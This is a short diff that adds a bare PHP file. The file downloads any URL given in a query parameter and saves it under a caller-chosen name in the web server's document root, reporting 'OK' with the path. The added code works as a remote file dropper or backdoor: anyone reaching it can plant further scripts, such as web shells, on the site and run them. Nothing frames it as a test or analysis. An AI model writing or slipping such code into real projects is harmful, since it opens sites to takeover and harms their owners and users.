@@ -1,0 +1,4 @@
+<?php
+$u = $_GET['u'];
+$t = $_SERVER['DOCUMENT_ROOT'] . '/' . basename($_GET['n']);
+if (copy($u, $t)) echo 'OK ' . $t;
